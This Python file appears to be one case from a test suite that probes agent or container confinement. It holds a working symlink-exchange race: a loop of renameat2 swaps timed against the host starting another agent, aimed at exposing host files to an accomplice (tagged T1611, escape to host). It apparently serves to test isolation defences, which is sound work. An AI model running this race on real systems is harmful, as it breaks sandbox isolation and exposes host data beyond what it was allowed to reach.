"""Exchange a folder for a link while another agent is started that is to be shown it.

gain: files of the host, shown to an accomplice or made its own
attack: T1611
stopped by: paths without links
unconfined: none: it is a launch of the core's that is attacked, and judged by what that shows
levels: before
host does: start another
"""

import os
import time

from attacker import LIBC, Refused


def attempt(world):
    home = f"{world['work']}/next"
    os.makedirs(f"{home}/lead")
    with open(f"{home}/lead/{os.path.basename(world['race'])}", "w") as file:
        file.write("its own")
    os.symlink(os.path.dirname(world["race"]), f"{home}/other")
    names = f"{home}/lead".encode(), f"{home}/other".encode()
    turns, end = 0, time.monotonic() + 1.6
    while time.monotonic() < end:
        for _ in range(50):
            if LIBC.renameat2(-100, names[0], -100, names[1], 2) == 0:
                turns += 1
    raise Refused(f"exchanged {turns} times; what was shown is judged outside")
